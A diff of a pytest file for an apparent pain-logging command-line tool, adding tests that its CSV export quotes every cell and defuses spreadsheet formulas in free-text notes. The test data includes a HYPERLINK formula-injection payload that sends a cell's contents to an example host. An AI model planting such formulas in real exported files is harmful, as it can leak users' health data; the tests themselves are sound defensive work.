@@ -336,7 +336,7 @@ def test_report_of_a_plan_that_is_not_there_is_refused(recorded):
 # CSV -------------------------------------------------------------------------------------------------
 
 
-def test_csv_has_a_header_and_one_row_per_event_in_local_time_with_the_text_exact():
+def test_csv_has_a_header_and_one_row_per_event_in_local_time_with_the_text_as_recorded():
     events = [
         LoggedEvent(1, 1, local(2026, 11, 24, 9, 0), "pain", 7, 'stiff, "sharp"\nat night', None, None, NOW, "command"),
         LoggedEvent(2, None, local(2026, 7, 1, 12, 0), "note", None, "=1+1", None, None, NOW, None),
@@ -346,14 +346,53 @@ def test_csv_has_a_header_and_one_row_per_event_in_local_time_with_the_text_exac
         LoggedEvent(4, 1, local(2026, 11, 24, 9, 6), "snooze", None, None, None, 12.5, NOW, "command"),
     ]
     text = report.csv_text(events, BERLIN)
-    assert text.startswith("time,kind,plan,session,score,minutes,text,source\r\n")
+    assert text.startswith('"time","kind","plan","session","score","minutes","text","source"\r\n')
     assert list(csv.reader(io.StringIO(text))) == [
         ["time", "kind", "plan", "session", "score", "minutes", "text", "source"],
         ["2026-11-24T09:00:00+01:00", "pain", "1", "", "7", "", 'stiff, "sharp"\nat night', "command"],
-        ["2026-07-01T12:00:00+02:00", "note", "", "", "", "", "=1+1", ""],  # summer time: +02:00
+        ["2026-07-01T12:00:00+02:00", "note", "", "", "", "", "'=1+1", ""],  # summer time: +02:00; a formula defused
         ["2026-11-24T09:05:00+01:00", "snooze", "1", "ice@2026-11-24T08:00:00Z", "", "10", "k", "notification"],
         ["2026-11-24T09:06:00+01:00", "snooze", "1", "", "", "12.5", "", "command"],
     ]
+
+
+FORMULAS = [
+    "-2 after the walk",
+    "+1",
+    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "pain 4, -2 since the heat",  # a cell that starts after a separator
+    "fine;=1+1",
+    'said "=1+1"',
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_free_text_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_single_quote(text):
+    assert report.defused(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["better after the walk", "well-being: ok", "e-mail the physio", "3 - 4", ""])
+def test_free_text_that_is_no_formula_is_left_as_it_is(text):
+    assert report.defused(text) == text
+
+
+@pytest.mark.cli
+def test_report_csv_defuses_formulas_in_notes_and_symptoms_and_json_stays_exact(run, tmp_path):
+    target = tmp_path / "log.csv"
+    with freeze_time(T0):
+        for text in FORMULAS[:4]:
+            run("log", "note", "--", text)
+        run("log", "symptom", "--", "=1+1 stiff")
+        run("report", "--csv", str(target))
+        history = run.json("history")["events"]
+    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
+    assert [r["text"] for r in rows] == ["'" + t for t in [*FORMULAS[:4], "=1+1 stiff"]]
+    assert [e["text"] for e in history] == [*FORMULAS[:4], "=1+1 stiff"]  # the record and --json: exact
+    raw = target.read_text(encoding="utf-8")
+    assert all(line.startswith('"') for line in raw.splitlines())  # every cell quoted: no reader splits one
 
 
 @pytest.mark.cli
@@ -376,7 +415,10 @@ def test_report_csv_to_stdout_needs_no_plan(run):
     with freeze_time(T0):
         run("log", "pain", "3")
         out = run("report", "--csv", "-").stdout_bytes  # .stdout would turn CRLF into LF
-    assert out == b"time,kind,plan,session,score,minutes,text,source\r\n2026-11-24T09:00:00+01:00,pain,,,3,,,\r\n"
+    assert out == (
+        b'"time","kind","plan","session","score","minutes","text","source"\r\n'
+        b'"2026-11-24T09:00:00+01:00","pain","","","3","","",""\r\n'
+    )
 
 
 @pytest.mark.cli
